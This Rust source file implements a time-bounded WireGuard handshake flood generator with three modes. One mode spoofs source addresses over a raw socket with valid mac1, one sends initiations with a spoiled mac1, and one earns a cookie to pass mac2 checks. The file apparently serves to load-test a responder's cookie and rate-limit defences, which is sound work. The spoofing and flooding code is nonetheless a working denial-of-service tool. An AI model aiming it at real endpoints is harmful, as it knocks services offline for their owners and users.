//! The handshake flood generator: handshake initiations aimed at a WireGuard responder
//! as fast as one thread can send them, bounded in time.
//!
//! - `Spoofed`: initiations with a valid mac1 (the generator knows the responder's
//!   public key, as any attacker does) from random source addresses in a prefix, sent
//!   through a raw socket. They cost a responder Diffie-Hellman work unless it is under
//!   load, when it must answer with cookie replies instead, which go nowhere.
//! - `Junk`: the same messages with a wrong mac1; a responder must reject them with one
//!   BLAKE2s each and no Diffie-Hellman.
//! - `Cookie`: one real source that answers cookie replies, so its initiations carry a
//!   valid mac2 too; only the per-source rate limit stands between it and the
//!   responder's Diffie-Hellman.
//!
//! Messages are built once into a pool (mac1 does not cover the IP header), so the
//! sending loop is only syscalls.

use crate::relay::Rng;
use crate::Result;
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4, UdpSocket};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};
use wirelane_proto::cookie::CookieGenerator;
use wirelane_proto::messages::{classify, CookieReply, Initiation, Kind, INITIATION_LEN};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FloodKind {
    Spoofed,
    Junk,
    Cookie,
}

impl std::str::FromStr for FloodKind {
    type Err = String;
    fn from_str(s: &str) -> std::result::Result<Self, String> {
        match s {
            "spoofed" => Ok(FloodKind::Spoofed),
            "junk" => Ok(FloodKind::Junk),
            "cookie" => Ok(FloodKind::Cookie),
            _ => Err(format!(
                "flood kind '{s}': expected spoofed, junk or cookie"
            )),
        }
    }
}

#[derive(Debug, Clone, Copy)]
pub struct FloodSpec {
    pub kind: FloodKind,
    pub target: SocketAddrV4,
    pub responder_public: [u8; 32],
    /// Spoofed: the source prefix (address, length). Cookie: the address to send from.
    pub source: (Ipv4Addr, u8),
    pub duration: Duration,
    /// Spoofed and junk floods: initiations per second, or as fast as possible.
    pub rate: Option<u64>,
}

#[derive(Debug, Clone, Default)]
pub struct FloodReport {
    pub sent: u64,
    pub cookie_replies: u64,
    /// Cookie flood: when the first cookie was taken (the full-rate phase began).
    pub cookie_at: Option<Instant>,
    pub seconds: f64,
}

/// An initiation with random contents, mac1 stamped for the responder (or spoiled).
fn initiation(rng: &mut Rng, stamp: &mut CookieGenerator, valid_mac1: bool) -> Vec<u8> {
    let mut m = Initiation {
        sender: rng.next() as u32,
        ephemeral: [0; 32],
        encrypted_static: [0; 48],
        encrypted_timestamp: [0; 28],
        mac1: [0; 16],
        mac2: [0; 16],
    };
    rng.fill(&mut m.ephemeral);
    rng.fill(&mut m.encrypted_static);
    rng.fill(&mut m.encrypted_timestamp);
    let mut b = m.to_bytes().to_vec();
    stamp.stamp(&mut b, Duration::ZERO);
    if !valid_mac1 {
        b[INITIATION_LEN - 32] ^= 0xff;
    }
    b
}

/// Runs the flood in the calling thread's namespace until `duration` passes or `stop`.
pub fn run(spec: &FloodSpec, stop: &AtomicBool) -> Result<FloodReport> {
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15 ^ std::process::id() as u64);
    let mut gen = CookieGenerator::new(&spec.responder_public);
    let start = Instant::now();
    let mut report = match spec.kind {
        FloodKind::Cookie => cookie_flood(spec, &mut gen, &mut rng, stop)?,
        kind => {
            let pool: Vec<Vec<u8>> = (0..1024)
                .map(|_| initiation(&mut rng, &mut gen, kind == FloodKind::Spoofed))
                .collect();
            raw_flood(spec, &pool, &mut rng, stop)?
        }
    };
    report.seconds = start.elapsed().as_secs_f64();
    Ok(report)
}

/// How long the cookie flood keeps asking for its first cookie.
pub const COOKIE_PROBE_LIMIT: Duration = Duration::from_secs(15);

/// One real source that earns a cookie and then stamps every initiation with mac2.
///
/// A cookie reply is sealed to the mac1 of the message it answers, so until a cookie
/// is held the flooder sends one initiation at a time and waits for its reply (the
/// responder only sends them while under load). Then it sends as fast as it can for
/// the flood's duration.
fn cookie_flood(
    spec: &FloodSpec,
    gen: &mut CookieGenerator,
    rng: &mut Rng,
    stop: &AtomicBool,
) -> Result<FloodReport> {
    let sock = UdpSocket::bind(SocketAddrV4::new(spec.source.0, 0))?;
    let mut r = FloodReport::default();
    let mut buf = [0u8; 256];
    sock.set_read_timeout(Some(Duration::from_millis(200)))?;
    // Earning the cookie does not count against the duration, but is bounded too.
    let probe_deadline = Instant::now() + COOKIE_PROBE_LIMIT;
    while Instant::now() < probe_deadline && !stop.load(Ordering::Relaxed) && r.cookie_replies == 0
    {
        sock.send_to(&initiation(rng, gen, true), spec.target)?;
        r.sent += 1;
        if let Ok((n, _)) = sock.recv_from(&mut buf) {
            if classify(&buf[..n]) == Ok(Kind::CookieReply) {
                let reply = CookieReply::parse(&buf[..n])?;
                if gen.consume_reply(&reply, Duration::ZERO).is_ok() {
                    r.cookie_replies += 1;
                    r.cookie_at = Some(Instant::now());
                }
            }
        }
    }
    if r.cookie_replies == 0 {
        return Ok(r);
    }
    sock.set_nonblocking(true)?;
    let deadline = Instant::now() + spec.duration;
    while Instant::now() < deadline && !stop.load(Ordering::Relaxed) {
        // The generator now adds mac2 from the cookie to every message it stamps.
        match sock.send_to(&initiation(rng, gen, true), spec.target) {
            Ok(_) => r.sent += 1,
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
            Err(e) => return Err(e.into()),
        }
        while sock.recv_from(&mut buf).is_ok() {}
    }
    Ok(r)
}

/// Spoofed-source (or junk) initiations through a raw IPv4 socket, in batches.
fn raw_flood(
    spec: &FloodSpec,
    pool: &[Vec<u8>],
    rng: &mut Rng,
    stop: &AtomicBool,
) -> Result<FloodReport> {
    // SAFETY: socket() with constant arguments; the result is checked and owned.
    let fd = unsafe {
        let raw = libc::socket(
            libc::AF_INET,
            libc::SOCK_RAW | libc::SOCK_CLOEXEC,
            libc::IPPROTO_RAW,
        );
        if raw < 0 {
            return Err(format!("raw socket: {}", std::io::Error::last_os_error()).into());
        }
        OwnedFd::from_raw_fd(raw)
    };
    const BATCH: usize = 64;
    let udp_len = 8 + INITIATION_LEN;
    let mut frames = vec![[0u8; 20 + 8 + INITIATION_LEN]; BATCH];
    let dst = spec.target;
    let mut sa: libc::sockaddr_in = unsafe { std::mem::zeroed() };
    sa.sin_family = libc::AF_INET as u16;
    sa.sin_addr.s_addr = u32::from(*dst.ip()).to_be();
    let (net, len) = spec.source;
    let host_mask = if len >= 32 { 0 } else { u32::MAX >> len };
    let mut r = FloodReport::default();
    let started = Instant::now();
    let deadline = started + spec.duration;
    let mut k = 0usize;
    while Instant::now() < deadline && !stop.load(Ordering::Relaxed) {
        for f in frames.iter_mut() {
            let src =
                Ipv4Addr::from((u32::from(net) & !host_mask) | (rng.next() as u32 & host_mask));
            f[0] = 0x45;
            f[2..4].copy_from_slice(&((20 + udp_len) as u16).to_be_bytes());
            f[8] = 64;
            f[9] = libc::IPPROTO_UDP as u8;
            f[12..16].copy_from_slice(&src.octets());
            f[16..20].copy_from_slice(&dst.ip().octets());
            f[20..22].copy_from_slice(&(1024 + (rng.next() as u16 % 60000)).to_be_bytes());
            f[22..24].copy_from_slice(&dst.port().to_be_bytes());
            f[24..26].copy_from_slice(&(udp_len as u16).to_be_bytes());
            f[26..28].copy_from_slice(&[0, 0]); // no UDP checksum (allowed over IPv4)
            f[28..].copy_from_slice(&pool[k % pool.len()]);
            k += 1;
        }
        let mut iov: Vec<libc::iovec> = frames
            .iter_mut()
            .map(|f| libc::iovec {
                iov_base: f.as_mut_ptr() as *mut libc::c_void,
                iov_len: f.len(),
            })
            .collect();
        let mut msgs: Vec<libc::mmsghdr> = iov
            .iter_mut()
            .map(|v| {
                // SAFETY: mmsghdr is plain data; zero is a valid starting value.
                let mut m: libc::mmsghdr = unsafe { std::mem::zeroed() };
                m.msg_hdr.msg_name = &mut sa as *mut _ as *mut libc::c_void;
                m.msg_hdr.msg_namelen = std::mem::size_of::<libc::sockaddr_in>() as u32;
                m.msg_hdr.msg_iov = v;
                m.msg_hdr.msg_iovlen = 1;
                m
            })
            .collect();
        // SAFETY: msgs, their iovecs, frames and sa all outlive the call.
        let n = unsafe { libc::sendmmsg(fd.as_raw_fd(), msgs.as_mut_ptr(), BATCH as u32, 0) };
        if n > 0 {
            r.sent += n as u64;
        } else {
            std::thread::sleep(Duration::from_micros(50)); // ENOBUFS: let the queue drain
        }
        if let Some(rate) = spec.rate {
            // Paced: sleep until this many messages are due.
            let due = Duration::from_secs_f64(r.sent as f64 / rate.max(1) as f64);
            if let Some(wait) = due.checked_sub(started.elapsed()) {
                std::thread::sleep(wait);
            }
        }
    }
    Ok(r)
}

/// Address form for the CLI: host:port of the responder.
pub fn parse_target(s: &str) -> std::result::Result<SocketAddrV4, String> {
    match s.parse::<SocketAddr>() {
        Ok(SocketAddr::V4(a)) => Ok(a),
        _ => Err(format!("'{s}' is not an IPv4 address:port")),
    }
}
